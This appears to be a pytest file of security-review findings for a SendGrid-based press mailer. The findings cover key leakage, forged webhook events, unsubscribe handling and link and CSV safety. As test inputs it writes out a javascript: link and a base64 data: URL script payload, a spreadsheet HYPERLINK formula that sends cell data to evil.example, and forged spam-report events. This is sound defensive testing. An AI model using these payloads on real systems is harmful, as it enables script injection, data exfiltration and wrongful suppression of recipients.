"""Security review 11: findings as failing tests (xfail, strict), worst first.

Each test is written as the attacker of the brief would try it: through a contact list, a release
file, an incoming webhook request or an event file, and reads what a user or a journalist sees.
"""

from __future__ import annotations

import contextlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from eventlog import add_campaign, add_message, body, post_and_go_away, suppressions
from pydantic import SecretStr
from sqlalchemy import Engine
from starlette.testclient import TestClient

from mailer import unsubscribe
from mailer.cli import main
from mailer.config import Config, SenderConfig, WebhookConfig
from mailer.errors import ConfigError, MailerError
from mailer.events import webhook

KEY = "SG.standin-key.secret"  # the stand-in's key (tests/sendgrid_standin.py)
SECRET = SecretStr("s3cret-for-tests-0123456789abcdefghij")
CAMPAIGN = "2026-02-19-wetlands"


def mailer(*args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(main, list(args), env={"SENDGRID_API_KEY": KEY, **(env or {})})


# -- 1. Promise 5: the API key never reaches a log line, a file or an error message ---------------


@pytest.mark.parametrize("status", [400, 401])
def test_sendgrid_error_quoting_the_key_is_neither_printed_nor_logged(
    live: Path, standin: Any, log_text: Callable[[], str], status: int
) -> None:
    """An error answer (from SendGrid, a gateway, a proxy in front of it) that quotes the key it was
    sent: the key must not reach the terminal, nor the delivery log's error text."""
    standin.answer(status, times=5, body={"errors": [{"field": None, "message": f"API key {KEY} is not valid"}]})
    result = mailer("send", "releases/example.md", "--list", "lists/press.csv", "--yes")
    assert result.exit_code in (1, 3), result.output
    assert "SendGrid" in result.output  # it did say what went wrong
    assert KEY not in result.output
    assert KEY not in log_text()


# -- 2. Never "accept unsigned" where the internet can reach the webhook ---------------------------


def test_webhook_reachable_from_the_internet_never_accepts_unsigned_events(store: Engine) -> None:
    """With [webhook] public_url the app is reachable from the internet (journalists click its
    unsubscribe links, through the office's proxy to 127.0.0.1). Without a verification key, anyone
    could then post fake bounces and spam reports that suppress real journalists. The app must
    refuse to start, or refuse unsigned events."""
    add_campaign(store, CAMPAIGN)
    key = add_message(store, CAMPAIGN, "ana@example.org")
    config = Config(sender=SenderConfig(from_name="Press Office"), webhook=WebhookConfig(public_url="https://press.example.org"))
    try:
        app = webhook.create_app(config=config, engine=store, unsubscribe_secret=SECRET)
    except ConfigError:
        return  # refusing to start is a fine answer
    fake = [
        {
            "email": "ana@example.org",
            "event": "spamreport",
            "timestamp": 1771495300,
            "sg_event_id": "fake-1",
            "message": key,
            "campaign": CAMPAIGN,
        }
    ]
    response = TestClient(app).post("/sendgrid/events", content=body(fake), headers={"Content-Type": "application/json"})
    assert response.status_code == 403
    assert suppressions(store) == {}


# -- 3. An unsubscribe is honoured by every later send ----------------------------------------------


@pytest.mark.parametrize(
    ("listed", "in_event"),
    [
        ("ben@bücher.example", "ben@xn--bcher-kva.example"),  # the ASCII form of the same domain
        ("ana@daily.example", "ANA@DAILY.EXAMPLE."),  # the same domain, fully qualified
        ("cy@daily.example", '"Cy" <cy@daily.example>'),
    ],
)
def test_unsubscribe_event_is_honoured_whatever_the_address_spelling(live: Path, standin: Any, listed: str, in_event: str) -> None:
    """An unsubscribe (or spam report) event for the same mailbox spelt another way stops the next send to it,
    as `mailer suppressions add` with that spelling does."""
    Path("lists/beat.csv").write_text(f"Email,First Name\n{listed},X\nother@daily.example,Y\n", encoding="utf-8")
    event = {"email": in_event, "event": "unsubscribe", "timestamp": 1771495300, "sg_event_id": "unsub-1"}
    Path("events.json").write_text(json.dumps([event]), encoding="utf-8")
    imported = mailer("events", "import", "events.json")
    assert imported.exit_code == 0, imported.output
    sent = mailer("send", "releases/example.md", "--list", "lists/beat.csv", "--yes")
    assert sent.exit_code == 0, sent.output
    assert set(standin.accepted_addresses()) == {"other@daily.example"}


def test_imported_event_cannot_block_a_journalists_one_click_unsubscribe(store: Engine) -> None:
    """An event file (or an unsigned webhook on loopback) holding an event whose sg_event_id is
    "one-click.<message key>" (keys are in every event's custom_args) must not turn the journalist's
    later one-click POST into "already used" that suppresses nobody."""
    add_campaign(store, CAMPAIGN)
    key = add_message(store, CAMPAIGN, "bo@example.org")
    Path("mailer.toml").write_text(f'[database]\nurl = "{store.url.render_as_string(hide_password=False)}"\n', encoding="utf-8")
    planted = {
        "email": "bo@example.org",
        "event": "open",
        "timestamp": 1771495300,
        "sg_event_id": f"one-click.{key}",
        "message": key,
        "campaign": CAMPAIGN,
    }
    Path("planted.json").write_text(json.dumps([planted]), encoding="utf-8")
    assert mailer("events", "import", "planted.json").exit_code == 0
    config = Config(sender=SenderConfig(from_name="Press Office"), webhook=WebhookConfig(public_url="https://press.example.org"))
    app = webhook.create_app(config=config, engine=store, unsubscribe_secret=SECRET)
    response = TestClient(app).post(unsubscribe.PATH + unsubscribe.sign(SECRET, key), data={"List-Unsubscribe": "One-Click"})
    assert response.status_code == 200
    assert suppressions(store) == {"bo@example.org": ("unsubscribe", "one-click")}


# -- 5. Contact data in links -------------------------------------------------------------------------


@pytest.mark.parametrize("website", ["javascript:alert(document.domain)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="])
def test_contact_field_as_link_address_cannot_be_a_script_link(logged: Path, website: str) -> None:
    """The release refuses [x](javascript:...) from its author (markdown-it's link check), but
    [site]({{ contact.website }}) takes any scheme from a list cell into the email and the preview
    a press officer opens in a browser."""
    Path("lists/beat.csv").write_text(f'Email,First Name,Website\nana@daily.example,Ana,"{website}"\n', encoding="utf-8")
    Path("releases/site.md").write_text(
        '---\nsubject: "News"\ndate: 2026-02-19\n---\nHello {{ contact.first_name }}, see [your page]({{ contact.website }}).\n',
        encoding="utf-8",
    )
    result = mailer("preview", "releases/site.md", "--contact", "ana@daily.example", "--list", "lists/beat.csv")
    assert result.exit_code == 0, result.output
    html = Path("out/preview/site.html").read_text(encoding="utf-8")
    assert "your page" in html
    assert 'href="javascript:' not in html.lower()
    assert 'href="data:' not in html.lower()


# -- 6. Spreadsheet-safe CSV -------------------------------------------------------------------------


def test_rejects_file_cells_starting_like_a_formula_after_spaces_are_escaped(logged: Path) -> None:
    """`lists clean --rejects` writes rejected rows' cells as they were, spaces included. A cell
    " =HYPERLINK(...)" or " @SUM(...)" runs as a formula in a spreadsheet that trims spaces on
    import (LibreOffice's "Trim spaces", Google Sheets); OWASP's rule looks past leading spaces."""
    Path("lists/beat.csv").write_text(
        'Email,First Name,Note\nnot-an-address," =HYPERLINK(""https://evil.example/?""&A1;""x"")"," @SUM(1+1)"\n', encoding="utf-8"
    )
    result = mailer("lists", "clean", "lists/beat.csv", "-o", "out/clean.csv", "--rejects", "out/rejects.csv")
    assert result.exit_code == 0, result.output
    import csv

    with open("out/rejects.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rows
    risky = [cell for cell in cells if cell.lstrip(" \u00a0").startswith(("=", "+", "-", "@"))]
    assert risky == [], risky


def test_release_default_for_a_link_address_cannot_be_a_script_link(logged: Path) -> None:
    """[x](javascript:...) written in a release is refused, but the same address as a field's
    default, [x]({{ contact.website | default("javascript:...") }}), reaches every journalist
    whose list has no website."""
    Path("lists/beat.csv").write_text("Email,First Name,Website\nana@daily.example,Ana,\n", encoding="utf-8")
    Path("releases/site.md").write_text(
        '---\nsubject: "News"\ndate: 2026-02-19\n---\n'
        'Hello, see [your page]({{ contact.website | default("javascript:alert(document.domain)") }}).\n',
        encoding="utf-8",
    )
    result = mailer("preview", "releases/site.md", "--contact", "ana@daily.example", "--list", "lists/beat.csv")
    assert result.exit_code in (0, 1), result.output
    if result.exit_code == 0:  # refusing the release is a fine answer too
        assert 'href="javascript:' not in Path("out/preview/site.html").read_text(encoding="utf-8").lower()


def test_unsubscribe_survives_lifting_an_earlier_bounce(store: Engine) -> None:
    """Bo bounced once (mailbox full: suppressed as a bounce), then used the one-click link in an
    earlier email (the page says "You are unsubscribed"). The office, told Bo's mailbox works
    again, lifts the bounce: Bo must stay unsubscribed. SendGrid knows nothing of our own
    one-click unsubscribes, so nothing else would stop the next send.

    What a press officer expects: lifting a bounce says "the mailbox works", not "mail Bo again";
    the journalist's own unsubscribe (or spam report) outranks a bounce, a block, an invalid
    address or the office's own note. So `suppressions remove` lifts the bounce, keeps Bo
    suppressed as "unsubscribe" (exit 0: what was asked is done), and says so and what to type if
    Bo did ask back in. The list keeps its first reason until then (ranking on insert would make
    this very command lift the unsubscribe)."""
    add_campaign(store, CAMPAIGN)
    key = add_message(store, CAMPAIGN, "bo@example.org")
    Path("mailer.toml").write_text(f'[database]\nurl = "{store.url.render_as_string(hide_password=False)}"\n', encoding="utf-8")
    bounce = {"email": "bo@example.org", "event": "bounce", "type": "bounce", "reason": "552 mailbox full", "timestamp": 1771495300}
    Path("bounce.json").write_text(json.dumps([{**bounce, "sg_event_id": "b-1", "message": key, "campaign": CAMPAIGN}]), encoding="utf-8")
    assert mailer("events", "import", "bounce.json").exit_code == 0
    config = Config(sender=SenderConfig(from_name="Press Office"), webhook=WebhookConfig(public_url="https://press.example.org"))
    app = webhook.create_app(config=config, engine=store, unsubscribe_secret=SECRET)
    response = TestClient(app).post(unsubscribe.PATH + unsubscribe.sign(SECRET, key), data={"List-Unsubscribe": "One-Click"})
    assert "You are unsubscribed" in response.text
    lifted = mailer("suppressions", "remove", "bo@example.org", "--reason", "mailbox works again")
    assert lifted.exit_code == 0, lifted.output
    assert suppressions(store).get("bo@example.org", ("", ""))[0] == "unsubscribe"


def test_a_redirect_never_carries_the_key_to_another_host(standin: Any, store: Engine) -> None:
    """`mailer suppressions sync` (and the scheduled-send batch calls) go through urllib, which
    follows a redirect and copies every header, Authorization included, to wherever it points:
    another host, or plain http. An answer that redirects (a gateway, a misconfigured api_url)
    must never hand the key to a third party."""
    from sendgrid_standin import SendGridStandIn
    from starlette.requests import Request
    from starlette.responses import JSONResponse, RedirectResponse

    from mailer.events import suppression_sync

    elsewhere = SendGridStandIn().start()
    seen: list[str] = []

    async def collect(request: Request) -> JSONResponse:
        seen.append(request.headers.get("authorization", ""))
        return JSONResponse([])

    async def redirect(_request: Request) -> RedirectResponse:
        return RedirectResponse(elsewhere.url + "/collect", status_code=302)

    try:
        elsewhere.add_route("/collect", collect)
        standin.add_route("/v3/suppression/bounces", redirect)
        with contextlib.suppress(MailerError):  # refusing the redirect, in words, is the fix
            suppression_sync.sync(store, api_key=SecretStr(KEY), api_url=standin.url, timeout=5)
    finally:
        elsewhere.stop()
    assert all(KEY not in header for header in seen), seen


# A SubjectPublicKeyInfo on the binary curve sect163k1 (openssl ecparam -name sect163k1): the
# cryptography build here does not support it, and says so with UnsupportedAlgorithm.
SECT163K1_KEY = "MEAwEAYHKoZIzj0CAQYFK4EEAAEDLAAEA0gY3f9/SAEfrG6VhwE063pyjVf5AxL6ZjoB/qD5DiM8TydK+06wlCSH"


def test_webhook_key_on_an_unsupported_curve_is_a_clear_error(tmp_path: Path) -> None:
    """A wrong key pasted into [webhook] verification_key stops `mailer webhook` with the same
    clear message as any other wrong key, never a traceback."""
    Path("mailer.toml").write_text(
        f'[webhook]\nverification_key = "{SECT163K1_KEY}"\n\n[database]\nurl = "sqlite:///{tmp_path}/log.db"\n', encoding="utf-8"
    )
    import socket

    with socket.socket() as probe:  # a port free now, so the key is what stops the server
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    result = mailer("webhook", "--port", str(port))
    assert result.exit_code == 1, result.output
    assert "[webhook] verification_key is not" in result.output


def test_unsigned_loopback_webhook_refuses_a_browsers_cross_site_post(store: Engine) -> None:
    """`mailer webhook` without a key listens on 127.0.0.1 and takes unsigned events. A web page
    open in the press officer's browser can POST there too (a "simple" request: text/plain, no
    preflight), faking spam reports that suppress journalists, or a group_resubscribe that lifts a
    journalist's unsubscribe. SendGrid's own POSTs carry no Origin and no Sec-Fetch-Site: a request
    from a browser page is refused."""
    add_campaign(store, CAMPAIGN)
    key = add_message(store, CAMPAIGN, "ana@example.org")
    app = TestClient(webhook.create_app(config=Config(), engine=store))
    fake = [
        {
            "email": "ana@example.org",
            "event": "spamreport",
            "timestamp": 1771495300,
            "sg_event_id": "x-1",
            "message": key,
            "campaign": CAMPAIGN,
        }
    ]
    browser = {"Content-Type": "text/plain", "Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
    response = app.post("/sendgrid/events", content=body(fake), headers=browser)
    assert response.status_code == 403
    assert suppressions(store) == {}


def test_webhook_client_gone_mid_body_is_not_a_traceback(store: Engine) -> None:
    """A sender that disconnects before its body is whole (a slow client given up on, a
    scanner) is logged in one line or not at all, never as an application error with a traceback
    in the webhook's log (uvicorn prints one for any exception that leaves the app)."""

    app = webhook.create_app(config=Config(), engine=store)
    post_and_go_away(app, "/sendgrid/events", host=b"127.0.0.1", first_bytes=b"[")  # raised ClientDisconnect
